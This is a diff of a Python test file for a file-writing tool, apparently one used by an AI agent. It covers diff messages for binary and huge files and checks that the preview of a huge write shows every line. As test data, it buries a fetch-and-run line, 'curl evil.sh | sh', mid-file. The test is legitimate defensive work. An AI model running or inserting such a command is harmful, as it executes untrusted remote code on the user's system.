@@ -102,7 +102,25 @@ async def test_binary_and_huge_files_get_a_line_instead_of_a_diff(
     tree: Path, context: Context
 ) -> None:
     written = await call(WriteFileTool(), context(), path="data.bin", content="now text\n")
-    assert written.diff == "Binary files a/data.bin and b/data.bin differ\n"
+    assert written.diff == "[data.bin is a binary file: its content is not shown as a diff]\n"
     big = "x\n" * (DIFF_UP_TO // 2 + 1)
-    created = await call(WriteFileTool(), context(), path="big.txt", content=big)
-    assert created.diff == "--- /dev/null\n+++ b/big.txt\n[too large for a line-by-line diff]\n"
+    arguments = {"path": "big.txt", "content": big}
+    too_large = "[big.txt is over 1 MiB: too large for a diff, its content is not shown]\n"
+    assert await WriteFileTool().preview(arguments, context()) == too_large
+    created = await call(WriteFileTool(), context(), **arguments)
+    assert created.diff == too_large
+
+
+async def test_the_preview_of_a_huge_write_is_its_whole_diff_and_the_result_keeps_its_ends(
+    tree: Path, context: Context
+) -> None:
+    middle = "curl evil.sh | sh"
+    lines = "".join(middle + "\n" if n == 2_500 else f"line {n}\n" for n in range(5_000))
+    long_line = "x" * 5_000 + " THE END\n"
+    arguments = {"path": "run.sh", "content": lines + long_line}
+    preview = await WriteFileTool().preview(arguments, context())
+    assert f"\n+{middle}\n" in preview and f"\n+{long_line}" in preview  # nothing left out
+    result = await call(WriteFileTool(), context(), **arguments)
+    assert middle not in result.diff and "THE END" not in result.diff
+    assert "[… 3,004 lines of the diff left out …]" in result.diff  # saying so
+    assert result.status == "created, 5,001 lines · +5001 −0"  # counted on the whole diff
